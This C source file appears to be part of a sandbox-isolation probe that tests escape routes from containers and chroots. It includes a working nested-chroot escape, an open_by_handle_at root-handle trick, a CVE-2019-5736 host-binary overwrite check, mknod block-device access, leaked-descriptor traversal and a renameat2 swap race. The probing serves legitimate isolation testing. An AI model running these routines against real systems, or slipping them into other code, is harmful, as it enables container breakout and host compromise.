/* Files of the kernel, devices, and what lies outside of the root. */
#include "probe.h"
#include <dirent.h>
#include <ftw.h>
#include <sys/sysmacros.h>

int show(char **words) {
  char text[4096];
  for (; *words != NULL; words++) {
    int file = open(*words, O_RDONLY);
    if (file < 0) say(*words, -1);
    for (ssize_t size; file >= 0 && (size = read(file, text, sizeof text)) > 0;) fwrite(text, 1, size, stdout);
  }
  return 0;
}

int open_write(char **words) {
  for (; *words != NULL; words++) say(*words, open(*words, O_WRONLY | O_NONBLOCK | O_CLOEXEC));
  return 0;
}

int make_folder(char **words) {
  for (; *words != NULL; words++) say(*words, mkdir(*words, 0755));
  return 0;
}

static int count_entries(const char *path) {
  DIR *folder = opendir(path);
  int count = 0;
  if (folder == NULL) return -1;
  for (struct dirent *entry; (entry = readdir(folder)) != NULL;)
    if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0) count++;
  closedir(folder);
  return count;
}

int open_read(char **words) {
  char text[4096];
  for (; *words != NULL; words++) {
    int file = open(*words, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    long size = file < 0 ? -1 : read(file, text, sizeof text);
    if (size < 0 && errno == EISDIR) size = count_entries(*words);
    if (size < 0) say(*words, -1);
    else printf("%s: %ld\n", *words, size);
  }
  return 0;
}

static int tried;

static int visit_writable(const char *path, const struct stat *stats, int kind, struct FTW *place) {
  (void)place;
  if (kind != FTW_F || !S_ISREG(stats->st_mode)) return 0;
  tried++;
  int file = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
  if (file < 0) return 0;
  puts(path);
  close(file);
  return 0;
}

int writable(char **words) {
  tried = 0;
  for (; *words != NULL; words++) nftw(*words, visit_writable, 50, FTW_PHYS);
  printf("tried: %d\n", tried);
  return 0;
}

static int visit_socket(const char *path, const struct stat *stats, int kind, struct FTW *place) {
  (void)kind, (void)place;
  tried++;
  if (S_ISSOCK(stats->st_mode)) puts(path);
  return 0;
}

int find_sockets(char **words) {
  tried = 0;
  for (; *words != NULL; words++) nftw(*words, visit_socket, 50, FTW_PHYS);
  printf("tried: %d\n", tried);
  return 0;
}

int make_device(char **words) {
  unsigned major = 0, minor = 0;
  char byte;
  if (words[0] == NULL || sscanf(words[0], "%u:%u", &major, &minor) != 2) return 2;
  for (words++; *words != NULL; words++) {
    int file = mknod(*words, S_IFBLK | 0600, makedev(major, minor)) < 0 ? -1 : open(*words, O_RDONLY);
    say(*words, file < 0 ? -1 : read(file, &byte, 1));
  }
  return 0;
}

int by_handle(char **words) {
  struct {
    struct file_handle head;
    unsigned inode[2];
  } handle = {{.handle_bytes = 8, .handle_type = 1}, {2, 0}}; /* FILEID_INO32_GEN of the root of ext4 */
  for (; *words != NULL; words++) {
    int at = open(*words, O_RDONLY);
    say(*words, at < 0 ? -1 : open_by_handle_at(at, &handle.head, O_RDONLY));
  }
  return 0;
}

/* By way of a descriptor without rights, as the program may be busy (ETXTBSY) until later: that it is no more then is enough (CVE-2019-5736). */
static void overwrite_program(const char *pid) {
  char path[64], again[64], program[256] = "";
  struct stat own, other;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int file = open(path, O_PATH | O_CLOEXEC);
  if (file < 0) return;
  if (readlink(path, program, sizeof program - 1) < 0) program[0] = '?';
  stat("/proc/self/exe", &own);
  fstat(file, &other);
  snprintf(again, sizeof again, "/proc/self/fd/%d", file);
  int isOwn = own.st_dev == other.st_dev && own.st_ino == other.st_ino;
  if (!isOwn && (open(again, O_WRONLY | O_CLOEXEC) >= 0 || errno == ETXTBSY)) printf("%s: %s\n", path, program);
  close(file);
}

int overwrite(char **words) {
  (void)words;
  for (int round = 0; round < 20; round++) each_process(overwrite_program);
  puts("done");
  return 0;
}

int swap(char **words) {
  if (words[0] == NULL || words[1] == NULL) return 2;
  for (int round = 0;; round++) {
    if (renameat2(AT_FDCWD, words[0], AT_FDCWD, words[1], RENAME_EXCHANGE) < 0) return answer(-1);
    if (round == 0) puts("ready");
  }
}

int descriptors(char **words) {
  (void)words;
  char path[64], link[256];
  for (int number = 0; number < 4096; number++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", number);
    ssize_t size = readlink(path, link, sizeof link - 1);
    if (size < 0) continue;
    link[size] = '\0';
    printf("%d: %s\n", number, strncmp(link, "pipe:", 5) == 0 ? "pipe" : link);
    snprintf(path, sizeof path, "/proc/self/fd/%d/../../..", number);
    if (chdir(path) == 0) printf("%s leads to %s\n", path, getcwd(link, sizeof link));
  }
  return 0;
}

/* A root inside the root, while the current folder stays outside of it, and up from there. */
int escape(char **words) {
  (void)words;
  int outside = open(".", O_RDONLY | O_DIRECTORY);
  mkdir("jail", 0755);
  if (outside < 0 || chroot("jail") < 0 || fchdir(outside) < 0) return answer(-1);
  for (int level = 0; level < 100; level++)
    if (chdir("..") < 0) return answer(-1);
  if (chroot(".") < 0) return answer(-1);
  DIR *root = opendir("/");
  if (root == NULL) return answer(-1);
  printf("ok");
  for (struct dirent *entry; (entry = readdir(root)) != NULL;)
    if (entry->d_name[0] != '.') printf(" %s", entry->d_name);
  printf("\n");
  return 0;
}
